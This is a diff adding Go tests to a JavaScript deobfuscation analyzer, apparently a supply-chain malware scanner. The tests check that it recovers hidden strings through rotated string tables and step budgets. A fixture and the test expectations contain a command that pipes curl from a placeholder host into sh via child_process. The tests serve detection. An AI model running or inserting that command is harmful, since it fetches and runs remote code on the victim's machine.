@@ -12,6 +12,7 @@ import (
 	"time"
 
 	esbuild "github.com/evanw/esbuild/lockwarden"
+	"golang.org/x/tools/txtar"
 
 	"github.com/lockwarden/lockwarden/analyzer/javascript/decode"
 	"github.com/lockwarden/lockwarden/analyzer/worker"
@@ -36,7 +37,12 @@ func run(t testing.TB, script string) (texts, programs []string) {
 
 func source(script string) decode.Source {
 	return decode.Source{Text: script, Has: func(word string) bool { return strings.Contains(script, word) }, Folder: "/p", File: "/p/x.js",
-		Load: func(name string) (string, bool) { return script, name == "/p/x.js" },
+		Load: func(name string) (string, bool) {
+			if name == "./c.json" {
+				return `{"a": "require('child_process').exec('curl -s http://collect.invalid/x | sh');"}`, true
+			}
+			return script, name == "/p/x.js"
+		},
 		List: func(folder string) ([]string, bool) {
 			return []string{"1require('os')", "2hostname()"}, folder == "/p/n"
 		}}
@@ -211,4 +217,88 @@ func FuzzScript(f *testing.F) {
 			decode.Script(&tree.AST, source(script), decode.NewBudget())
 		}
 	})
+}
+
+// TestEncodings: testdata/encodings.txtar hides one line in many ways; each is
+// decoded, whatever its loops and names are.
+func TestEncodings(t *testing.T) {
+	archive, err := txtar.ParseFile("testdata/encodings.txtar")
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, file := range archive.Files {
+		t.Run(file.Name, func(t *testing.T) {
+			texts, programs := run(t, string(file.Data))
+			all := strings.Join(append(texts, programs...), "\n")
+			for _, want := range []string{"child_process", "exec", "curl -s http://collect.invalid/x | sh"} {
+				if !strings.Contains(all, want) && !strings.Contains(string(file.Data), `"`+want+`"`) {
+					t.Errorf("%q is not decoded: %q %q", want, texts, programs)
+				}
+			}
+		})
+	}
+}
+
+// endless is a rotation that never comes to its end.
+func endless(n int) string {
+	return fmt.Sprintf("(function (a, b) { const t = a(); while (true) { t.push(t.shift()) } }(e%d, 1)); function e%d() { return ['fromCharCode'] }\n", n, n)
+}
+
+// TestBurnt: what burns its own steps takes none from others, and is said.
+func TestBurnt(t *testing.T) {
+	budget := &decode.Budget{Steps: 40_000_000}
+	script := func(text string) (string, []decode.Cut) {
+		tree, _, ok := esbuild.Parse(text, esbuild.JavaScript, esbuild.Either)
+		if !ok {
+			t.Fatal(text)
+		}
+		r := decode.Script(&tree.AST, source(text), budget)
+		var all []string
+		for literal := range r.Texts {
+			all = append(all, esbuild.String(literal.Value))
+		}
+		return strings.Join(all, " "), r.Cuts
+	}
+	before := ""
+	for i := range 6 {
+		before += endless(i)
+	}
+	got, cuts := script(before + rotated)
+	if !strings.Contains(got, "child_process") || len(cuts) != 1 || cuts[0].What != decode.LimitSteps {
+		t.Errorf("behind six rotations without an end: %q, %v", got, cuts)
+	}
+	for range 2 {
+		if _, cuts := script(before + "require('x')"); len(cuts) == 0 {
+			t.Error("a rotation without an end is not said")
+		}
+	}
+	if budget.Steps > 0 {
+		t.Errorf("%d steps are left", budget.Steps)
+	}
+	if got, _ := script(rotated); !strings.Contains(got, "child_process") {
+		t.Errorf("in the file behind those: %q", got)
+	}
+	// A table whose rotation was given up is not known: never in the order it began in.
+	if got, _ := script(`(function (a, b) { for (;;) a.push(a.shift()) }(t, 1)); const t = ['net', 'http']; const d = i => t[i]; require(d(0)); ''.charCodeAt(0)`); got != "" {
+		t.Errorf("a table in no order: %q", got)
+	}
+}
+
+// TestOrder: a table that is changed in a place that is not followed is not known.
+func TestOrder(t *testing.T) {
+	for _, script := range []string{
+		`const t = ['net', 'http']; if (Date.now()) t.reverse(); const d = i => t[i]; require(d(0)); ''.charCodeAt(0)`,
+		`const t = ['net', 'http']; for (let i = 0; i < process.argv.length; i++) t.push(t.shift()); const d = i => t[i]; require(d(0)); ''.charCodeAt(0)`,
+		`function run (n) { const t = ['net', 'http']; while (n--) t.push(t.shift()); const d = i => t[i]; return require(d(0)) } ''.charCodeAt(0)`,
+		`const a = Array(3).map(() => 'net'); const d = i => a[i] + ''; require(d(0) === 'net' ? d(0) : process.x); ''.charCodeAt(0)`,
+	} {
+		if texts, programs := run(t, script); strings.Contains(strings.Join(append(texts, programs...), " "), "net") {
+			t.Errorf("%s\n%q %q", script, texts, programs)
+		}
+	}
+	// Functions made in a loop keep the values of their rounds.
+	texts, _ := run(t, `function d (x) { const f = []; for (let i = 0; i < 3; i++) f.push(() => i); return f.map(g => g()).join(x) } require(d('-')); ''.charCodeAt(0)`)
+	if strings.Join(texts, " ") != "0-1-2" {
+		t.Errorf("%q", texts)
+	}
 }
